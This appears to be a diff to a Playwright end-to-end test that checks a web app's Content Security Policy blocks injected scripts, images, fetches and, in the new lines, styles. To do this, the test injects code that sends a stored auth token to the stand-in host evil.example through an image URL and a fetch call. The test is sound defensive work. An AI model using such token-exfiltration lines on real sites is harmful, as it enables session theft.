@@ -22,7 +22,7 @@ test('a visitor reads the tags that a donor wrote into their name and address as
   }
 });
 
-test('a script that got into a page is not run, and can send the token nowhere', async ({ page }) => {
+test('a script or a style that got into a page is not taken, and can send the token nowhere', async ({ page }) => {
   await signUp(page, 'Donor');
   const stolen: string[] = [];
   await page.route('https://evil.example/**', (route) => {
@@ -41,13 +41,16 @@ test('a script that got into a page is not run, and can send the token nowhere',
     const image = document.createElement('img');
     image.setAttribute('onerror', 'document.documentElement.dataset.ran = "handler"');
     image.src = `https://evil.example/?${localStorage.getItem('token')}`;
-    document.body.append(inline, remote, image);
+    const style = document.createElement('style');
+    style.textContent = 'main { display: none }';
+    document.body.append(inline, remote, image, style);
     await fetch(`https://evil.example/?${localStorage.getItem('token')}`).catch(() => {});
   });
   const html = page.locator('html');
-  for (const directive of ['script-src-elem', 'img-src', 'connect-src']) {
+  for (const directive of ['script-src-elem', 'style-src-elem', 'img-src', 'connect-src']) {
     await expect(html).toHaveAttribute('data-refused', new RegExp(directive));
   }
   await expect(html).not.toHaveAttribute('data-ran');
+  await expect(page.locator('main')).toBeInViewport();
   expect(stolen).toEqual([]);
 });
